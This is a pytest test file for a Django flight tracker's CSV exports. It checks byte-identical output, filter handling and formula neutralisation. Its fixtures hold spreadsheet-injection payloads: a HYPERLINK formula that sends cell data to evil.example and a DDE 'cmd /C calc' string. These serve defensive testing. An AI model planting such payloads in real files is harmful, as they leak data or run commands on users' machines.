"""The COPY exports write what the Python writers write, neutralise formulas, honour the filters."""

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse

from flights.choices import Basis, SourceKind
from flights.filters import FilterValues, Synthetic
from flights.models import AircraftType, FlightSource, Operator
from flights.views.exports import flights_csv, legs_csv
from tests.factories import make_aircraft, make_flight, make_source

pytestmark = pytest.mark.usefixtures("reference_data")
UTC = dt.UTC
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CALC = "+cmd|' /C calc'!A0"


@pytest.fixture
def awkward(db):
    """Flights whose values exercise every escaping and formatting rule of the CSV files."""
    operator = Operator.objects.create(name='@Evil, "Quoted" Air')
    aircraft = make_aircraft("N1EV", type_code="GLF5", icao24="A1B2C3", operator=operator)
    first = make_flight(
        ("KAEX", "MGGT"),
        date=dt.date(2024, 1, 10),
        aircraft=aircraft,
        operator=operator,
        callsign="-EVIL1",
        times=[
            (
                dt.datetime(2024, 1, 10, 14, 5, 7, tzinfo=UTC),
                dt.datetime(2024, 1, 10, 18, 0, tzinfo=UTC),
            )
        ],
        source=make_source(HYPERLINK, kind=SourceKind.NEWS, url="https://news.example/a"),
        pax_count=12,
        pax_basis=Basis.OBSERVED,
    )
    FlightSource.objects.create(flight=first, source=make_source("FOIA b", kind=SourceKind.FOIA))
    leg = first.legs.get()
    leg.notes, leg.passengers, leg.passengers_basis = CALC + '\nline two, "quoted"', 0, "observed"
    leg.save()
    # Registration unknown, type known (issue 12 item 9), an estimate, a mission id.
    second = make_flight(
        ("KIWA", "PANC", "ZYTX"),
        date=dt.date(2024, 3, 30),
        aircraft_type=AircraftType.objects.get(designator="A320"),
        pax_min=0,
        pax_max=150,
        pax_basis=Basis.ESTIMATED,
    )
    second.external_ref = "flightlog:ICE-=1"
    second.save()
    third = make_flight(("KHRL", "KAEX"), date=dt.date(2024, 6, 1), is_synthetic=True)
    third.external_ref = "flightlog-chain:x"
    third.save()
    make_flight(("KHRL", "MGGT"), date=dt.date(2024, 6, 2), pax_min=20, pax_basis="")
    return {"first": first, "second": second, "third": third}


def both(writer, *args) -> tuple[bytes, bytes]:
    return (
        b"".join(writer(*args, use_copy=True)),
        b"".join(writer(*args, use_copy=False)),
    )


@pytest.mark.parametrize(
    "values",
    [
        FilterValues(),
        FilterValues(synthetic=Synthetic.INCLUDE),
        FilterValues(synthetic=Synthetic.ONLY),
        FilterValues(country="CN"),
        FilterValues(start=dt.date(2024, 2, 1), source=SourceKind.NEWS),
    ],
)
def test_copy_and_python_writers_write_the_same_bytes(awkward, values):
    copied, written = both(legs_csv, values)
    assert copied == written
    assert copied.count(b"\r\n") >= 2
    copied, written = both(lambda v, **kw: flights_csv(v, "https://t.example", **kw), values)
    assert copied == written


def test_legs_csv_neutralises_formula_cells(client, awkward):
    text = b"".join(client.get(reverse("flights:export_legs_csv")).streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    first = next(r for r in rows if r["tracker_flight_id"] == str(awkward["first"].pk))
    assert first["notes"].startswith("'" + CALC)
    assert first["callsign"] == "'-EVIL1"
    assert first["operator"] == '\'@Evil, "Quoted" Air'
    second = next(r for r in rows if r["tracker_flight_id"] == str(awkward["second"].pk))
    assert second["mission_id"] == "ICE-=1"
    assert second["aircraft_type"] == "A320"
    assert second["tail_number"] == ""


def test_flights_csv_neutralises_source_titles_and_keeps_the_type(client, awkward):
    url = reverse("flights:export_flights_csv")
    text = b"".join(client.get(url).streaming_content).decode()
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))}
    first, second = rows[str(awkward["first"].pk)], rows[str(awkward["second"].pk)]
    assert first["source_titles"] == "FOIA b; " + HYPERLINK
    assert first["people_on_board"] == "12 (observed)"
    assert second["aircraft"] == "" and second["aircraft_type"] == "A320"
    assert second["people_on_board"] == "at most 150 (estimated)"
    assert str(awkward["third"].pk) not in rows  # synthetic: left out unless asked for


def test_rejected_rows_csv_neutralises_formula_cells(admin_client, db):
    from flights.models import ImportRun

    run = ImportRun.objects.create(format="flightlog", file_name="x.csv")
    run.rejected_rows.create(line=3, column="notes", value=HYPERLINK, message="bad")
    response = admin_client.get(reverse("flights:import_rejected_csv", args=[run.pk]))
    text = b"".join(response.streaming_content).decode()
    assert (
        text.splitlines()[1]
        == '3,notes,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",bad'
    )
